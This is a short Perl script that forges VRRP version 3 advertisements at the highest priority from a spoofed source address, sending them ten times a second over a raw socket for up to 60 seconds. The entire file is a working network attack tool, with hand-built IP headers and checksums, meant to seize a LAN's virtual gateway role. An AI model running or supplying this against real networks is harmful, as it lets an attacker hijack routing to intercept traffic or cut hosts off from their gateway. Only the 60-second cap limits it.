# Sends forged VRRP adverts (version 3) of the highest priority, ten a second. Arguments: the address that
# they seem to come from, the one that they go to, router id, time to live, seconds (60 at most), and the
# virtual addresses in them. It wants CAP_NET_RAW.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep time);
use constant { VRRP => 112, VERSION_AND_TYPE => 0x31, PRIORITY => 255, CENTISECONDS => 20 };

my ($from, $to, $id, $ttl, $seconds, @addresses) = @ARGV;
die "more than 60 s\n" if $seconds > 60;

sub sum {
  my ($bytes) = @_;
  my $sum = 0;
  $sum += $_ for unpack('n*', $bytes);
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  return ~$sum & 0xffff;
}

my ($source, $target) = map { inet_aton($_) or die "$_ is no address\n" } $from, $to;
my @head = (VERSION_AND_TYPE, $id, PRIORITY, scalar @addresses, CENTISECONDS);
my $list = join '', map { inet_aton($_) } @addresses;
my $length = 8 + length $list;
# The checksum is also of the addresses and the protocol
my $over = $source . $target . pack('xCn', VRRP, $length);
my $advert = pack('C4nn', @head, sum($over . pack('C4nn', @head, 0) . $list)) . $list;
# What is zero here the kernel fills in
my $packet = pack('CCnnnCCn', 0x45, 0xc0, 20 + $length, 0, 0, $ttl, VRRP, 0) . $source . $target . $advert;

# 255: the IP header is ours
socket(my $socket, AF_INET, SOCK_RAW, 255) or die "socket: $!\n";
my $end = time + $seconds;
while (time < $end) {
  send($socket, $packet, 0, pack_sockaddr_in(0, $target)) or die "send: $!\n";
  sleep 0.1;
}
